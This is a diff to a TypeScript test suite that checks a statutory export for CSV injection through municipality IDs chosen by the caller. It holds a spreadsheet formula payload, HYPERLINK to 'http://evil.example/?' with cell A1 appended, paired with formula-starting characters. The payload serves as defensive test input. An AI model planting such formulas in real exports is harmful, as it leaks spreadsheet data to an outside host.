@@ -317,6 +317,22 @@ describe("statutory export", () => {
 describe("statutory export of caller-controlled text (CSV injection)", () => {
   // A ministry officer may name any municipality: the scope id lands in a text cell as given.
   const FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"];
+  const hyperlink = (start: string) => `${start}HYPERLINK("http://evil.example/?"&A1,"x")`;
+  // A municipality is exported only once a school of it is replicated: one school each.
+  beforeAll(async () => {
+    await h.publish(
+      FORMULA_STARTS.flatMap((start) => [hyperlink(start), `${start}1+2`]).map((municipalityId) =>
+        feedEvent(
+          "identity",
+          randomUUID(),
+          "SchoolRegistered",
+          { schoolId: randomUUID(), municipalityId, timeZone: "Asia/Yekaterinburg" },
+          at(D),
+        ),
+      ),
+    );
+    await h.caughtUp();
+  });
   const exportAs = async (
     api: Awaited<ReturnType<typeof startApi>>,
     scopeId: string,
@@ -349,7 +365,7 @@ describe("statutory export of caller-controlled text (CSV injection)", () => {
     const api = await startApi(h.db, config);
     try {
       for (const start of FORMULA_STARTS) {
-        const scopeId = `${start}HYPERLINK("http://evil.example/?"&A1,"x")`;
+        const scopeId = hyperlink(start);
         const r = await exportAs(api, scopeId, ExportFormat.EXPORT_FORMAT_CSV);
         const content = Buffer.from(r.content);
         expect([...content.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
